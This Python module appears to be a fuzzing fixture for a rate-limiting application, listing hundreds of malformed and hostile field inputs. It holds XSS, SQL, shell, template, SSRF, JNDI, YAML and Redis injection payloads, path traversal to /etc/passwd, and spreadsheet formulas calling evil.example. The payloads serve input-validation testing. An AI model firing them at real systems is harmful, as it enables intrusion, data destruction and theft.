"""Five hundred and more of the worst texts that a client, or a colleague, can write into a field."""
# ruff: noqa: E501  they are what they are

import unicodedata

SCRIPTS = """Ελληνικά|Русский|Українська|Հայերեն|עברית|العربية|فارسی|اردو|ܣܘܪܝܝܐ|ދިވެހި|ߒߞߏ|हिन्दी|বাংলা|ਪੰਜਾਬੀ|ગુજરાતી|ଓଡ଼ିଆ|தமிழ்|తెలుగు|ಕನ್ನಡ|മലയാളം|සිංහල|ไทย|ລາວ
བོད་སྐད|မြန်မာ|ქართული|한국어|አማርኛ|ᏣᎳᎩ|ᐃᓄᒃᑎᑐᑦ|ᚠᚢᚦᚨᚱᚲ|ᚁᚂᚃ|ខ្មែរ|ᠮᠣᠩᠭᠣᠯ|日本語|ひらがな|カタカナ|ｶﾀｶﾅ|中文|繁體中文|ㄅㄆㄇㄈ|ꆈꌠꉙ|𐌰𐌱𐌲|𓀀𓁐𓂀|𒀀𒀁𒀂|𐎠𐎡𐎢|𝔉𝔯𝔞𝔨𝔱𝔲𝔯|𝕕𝕠𝕦𝕓𝕝𝕖|🄰🄱🄲
Tiếng Việt|Íslenska|Türkçe İıIi|Čeština|Polski ąęłż|Straße STRASSE|ŒŠŽ œšž|ǅ ǆ Ǆ|ﬀ ﬁ ﬂ ﬃ ﬄ ﬅ ﬆ|Å Å Å|é é|ñ ñ|각 각|ｆｕｌｌｗｉｄｔｈ|ªº¹²³|①②③|½¼¾|℡™℠|㎏㎡㏇|ΐ ΐ|ﷺ|﷽""".replace(
    "\n", "|"
).split("|")

FORMULAS = [
    f"{sign}{body}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", ";=", ",=", '"=', "'=")
    for body in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(1+1)*cmd")
]

INJECTIONS = r"""<script>alert(1)</script>|<img src=x onerror=alert(1)>|"><svg/onload=alert(1)>|'onmouseover='alert(1)|javascript:alert(1)
</title><script>alert(1)</script>|<!--|-->|]]>|<![CDATA[x]]>|&lt;b&gt;|&#0;|&amp;|<?php echo 1 ?>|<% 1 %>|{{ 7*7 }}|{% debug %}|{# x #}|${7*7}|#{7*7}
<a href="//evil.example">x</a>|<iframe src=//evil.example>|<style>*{display:none}</style>|<plaintext>|</textarea>|</script>|<math><mi//xlink:href="data:x">
' OR '1'='1|'; DROP TABLE ratewindow_raterule; --|" OR ""="|1; SELECT pg_sleep(9)|admin'--|%' --|\' OR 1=1|) OR (1=1|UNION SELECT NULL|0x27
; ls -la|$(reboot)|`reboot`|& ping x &|&& true|> /dev/null|< /etc/passwd|\; rm -rf /|../../../../etc/passwd|..\..\windows\win.ini|/etc/passwd%00
file:///etc/passwd|http://127.0.0.1:6379/|http://169.254.169.254/|gopher://127.0.0.1:6379/_FLUSHALL|${jndi:ldap://evil.example/a}|%{(#a=1)}
%s%s%s%s%n|%d%d%d|%(name)s|%(asctime)s|%%|{0}|{}|{name}|{0.__class__}|{self}|$name|%x|%c%c|\x00|\u0000|\n|\r\n|\\|\|\0|\|^$|.*|(a+)+$|[|(|*|?
*)(uid=*))(|(&(uid=*)|//*|' or count(/*)=1|<!DOCTYPE x [<!ENTITY a "b">]>|&a;|!!python/object:os.system|!ruby/object|- a: &a [*a]|%YAML|"a": "b"
{"$gt": ""}|{"__proto__": {}}|__proto__|constructor|toString|hasOwnProperty|[object Object]|eval(x)|require('fs')|__import__('os')|os.system
REDIS\r\nFLUSHALL\r\n|*1\r\n$8\r\nFLUSHALL|FLUSHALL|EVAL "return 1" 0|CONFIG SET dir /|KEYS *|rw:token|rw:s:|rw:{minutes}|rw:switch""".replace(
    "\n", "|"
).split("|")

NOTHINGS = """null NULL Null none None nil undefined NaN nan Infinity -Infinity inf true false True False 0 -0 00 0.0 -1 1 1.0 1e400 1e-400 1e18 0x0 0b1
0o7 1_000 1,000 ١٢٣ １２３ 𝟙𝟚𝟛 9223372036854775807 9223372036854775808 18446744073709551616 999999999999999999999999999999 anonymous
AnonymousUser admin root guest unknown user id pk self me * ** . .. ... ~ - -- _ / // \\ | || & && = == ' " ` ´ ’ “ « ¿ ¡ § ¶ † ‰ ∞ ≠""".split()

IDENTITIES = """ip:203.0.113.9 user:42 user:1 global ip:* * group:staff header:x-api-key:a session:a 5:abc 1:a 1:a+1:b 12:ip:203.0.113 a:b a:b:c :a a: :: a+b a+ +a
+ a++b {a} {a {a}} }{ {} {{}} {{{ }}} a{b}c {}{} rw rw:s rw:s:x:{y} #AAAAAAAAAAAAAAAA #AAAAAAAAAAAAAAAA.abcd ip:#AAAAAAAAAAAAAAAA 203.0.113.9
203.0.113.0/24 ::1 ::ffff:203.0.113.9 2001:db8::/64 [::1]:80 localhost fe80::1%eth0 0.0.0.0 127.0.0.1 a|b a;b a,b a/b a\\b a=b a&b a?b a#b a%b
a%00b a%0d%0ab %0d%0aX-Evil:1 %C0%AF %u0000 %FF a%20b a%2Bb %7B%7D %25%30%30 ann ANN Ann aNN ann@example.com ANN@EXAMPLE.COM""".split()

BIDI = [f"{mark}gnp.exe" for mark in "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"]
INVISIBLE = [
    f"a{mark}n"
    for mark in (
        "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u115f\u1160\u17b4\u180e\u3164\uffa0\U000e0001\U000e0041"
        "\ufe0e\ufe0f\u206a\u206f\ufff9\ufffa\ufffb\ufffc\ufffd\ufffe\uffff\U0001fffe\U0010ffff\ue000\uf8ff\U000f0000\U00100000"
    )
]
BLANKS = [
    f"a{blank}n"
    for blank in "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
]
NOTHING_BUT_BLANKS = [" ", "  ", "\t", "\n", "\r\n", "\v", "\f", "\u00a0", "\u3000", "\u2028", "\x85", "\x1c\x1d\x1e\x1f"]
CONTROLS = [f"a{chr(code)}n" for code in (*range(32), *range(127, 160))]
LINES = [
    f"ann{end}{line}"
    for end in (
        "\r\n",
        "\n",
        "\r",
        "\x85",
        "\u2028",
        "\u2029",
        "\v",
        "\f",
        "\x00",
        "\r\n\r\n",
        "\n ",
        "\x1b[2K\r",
        "\x1b]0;x\x07",
        "\b\b\b",
    )
    for line in ("X-Evil: 1", "Set-Cookie: sessionid=evil", "ERROR ratewindow: forged")
]
SURROGATES = [
    "\ud800", "\udbff", "\udc00", "\udfff", "\udcff\udcfe", "a\ud800n", "\udc00\ud800", "\ud83d", "\ude00", "\udce9", "\udcc3\udca9", "x\udc80" * 9
]  # fmt: skip
EMOJI = "😀 👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 🏴󠁧󠁢󠁷󠁬󠁳󠁿 ❤️ ❤ 🫠 1️⃣ 👨🏿‍🚀 🧑🏻‍🤝‍🧑🏿 🀄 🃏 ☃ ☃️ ⁉️ 🆗 🔟 😶‍🌫️".split()
MARKS = [
    "Z" + "".join(chr(0x300 + number) for number in range(112)),
    "a" + "\u0315\u0300" * 200,
    "\u0300" * 50,
    "\u20dd\u20e3a",
    "क" + "्" * 40,
    *(unicodedata.normalize(form, "Ω Å ﬁ é 각 ﷺ ½") for form in ("NFC", "NFD", "NFKC", "NFKD")),
]
YAML_WORDS = r"""? key|key: value|>-|%TAG ! tag:x|&anchor|*anchor|!<tag:x> y|~|yes|no|on|off|y|n|1:30|190:20:30|0o14|0b101|2001-01-01|2001-12-14t21:59:43.10-05:00
<<: *a|@x|# x|a # b|a: |: a|- x|---|...|--- !x|"|'|'a''b'|{a: b}|[a, b]|{a, b: [c]}|=|.inf|-.INF|.NaN|1_000.5|+1|"\u2028"|a\nb|!!binary aGk=|!!set {a}""".replace(
    "\n", "|"
).split("|")
YAML_LINES = ["a\n  b\n", " a", "a ", "\na", "a\n\n", "- a\n- b", "a:\n  b: c", "|\n  a", "a\tb", "\ta"]
SCRIPTS_AND_STYLES = r"""';alert(1)//|";alert(1);//|`${alert(1)}`|</script><script>alert(1)</script>|\x3cscript\x3ealert(1)\x3c/script\x3e|\u003cimg src=x onerror=alert(1)\u003e
<img src=x onerror=alert(1)//|<svg><animate onbegin=alert(1) attributeName=x>|<details open ontoggle=alert(1)>|<body onload=alert(1)>|<input autofocus onfocus=alert(1)>
<a href=javascript:alert(1)>x</a>|<form action=javascript:alert(1)><button>x|<base href=//evil.example/>|<meta http-equiv=refresh content=0;url=//evil.example/>|<object data=//evil.example>
<embed src=//evil.example>|<link rel=stylesheet href=//evil.example/x.css>|</style><style>*{background:url(//evil.example)}</style>|x:expression(alert(1))|background:url(javascript:alert(1))
}*{display:none|</option></select><script>alert(1)</script>|</td></tr></table><img src=x onerror=alert(1)>|{% load x %}|{% include "admin/base.html" %}|{{ request.user.password }}|{{ block.super }}
data:text/html,<script>alert(1)</script>|vbscript:msgbox(1)|" autofocus onfocus=alert(1) x="|' style='position:fixed|<x onclick=alert(1)>|<noscript><p title="</noscript><img src=x onerror=alert(1)>">""".replace(
    "\n", "|"
).split("|")
LONG = [
    "x" * 255, "x" * 256, "x" * 1024, "x" * 1025, "x" * 4096, "x" * 7000, "é" * 2000, "😀" * 1500, " " * 3000 + "ann", "ann" + " " * 3000,
    "a:" * 2000, "{" * 3000, "9" * 5000, "[" * 5000, "%00" * 1500, "\u202e" * 1000, "a+" * 2500,
]  # fmt: skip

WORST = list(
    dict.fromkeys(
        [
            *SCRIPTS, *FORMULAS, *INJECTIONS, *NOTHINGS, *IDENTITIES, *BIDI, *INVISIBLE, *BLANKS, *NOTHING_BUT_BLANKS, *CONTROLS, *LINES,
            *SURROGATES, *EMOJI, *MARKS, *YAML_WORDS, *YAML_LINES, *SCRIPTS_AND_STYLES, *LONG,
        ]
    )
)  # fmt: skip
